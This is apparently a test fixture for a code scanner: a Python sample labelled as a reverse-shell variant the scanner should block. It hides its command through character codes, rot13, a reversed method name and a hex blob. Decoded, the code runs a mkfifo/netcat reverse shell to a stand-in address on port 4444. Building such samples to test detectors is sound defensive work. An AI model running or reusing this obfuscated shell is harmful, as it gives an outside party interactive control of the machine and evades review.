# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/mkfifo_netcat.py technique: encode+getattr
subprocess = __import__(''.join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115])))
getattr(subprocess, __import__('codecs').decode('pnyy', 'rot13'))(getattr(bytes, 'xehmorf'[::-1])('726d202d66202f746d702f663b206d6b6669666f202f746d702f663b20636174202f746d702f66207c202f62696e2f7368202d6920323e2631207c206e63203230332e302e3131332e352034343434203e202f746d702f66').decode(), shell=True)
